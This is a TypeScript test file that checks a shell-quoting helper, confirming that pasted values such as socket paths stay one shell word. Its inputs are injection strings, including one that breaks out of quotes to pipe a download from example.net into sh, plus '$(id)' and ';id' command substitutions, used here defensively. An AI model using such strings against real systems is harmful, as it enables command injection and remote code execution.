import { execFileSync } from 'node:child_process'
import t from 'tap'
import { shellWord } from '../../../src/base/text/shell-word.ts'

const texts = [
  '/service/smtpd',
  'unix:/run/onescan/milter.sock',
  "unix:/x'; curl https://example.net/x | sh; '",
  '/a b;id>/tmp/x',
  '$(id)`id`"\\n&|<>*?~#!',
  '-rf',
  '',
  'a\nb',
]

t.test('text in a command that an administrator pastes stays one word of the shell', async (t) => {
  for (const text of texts) {
    const printed = execFileSync('/bin/sh', ['-c', `printf '<%s>' ${shellWord(text)}`])
    t.equal(printed.toString(), `<${text}>`)
  }
})

t.test('an ordinary path is shown as it is', async (t) => {
  t.equal(shellWord('/service/smtpd'), '/service/smtpd')
})
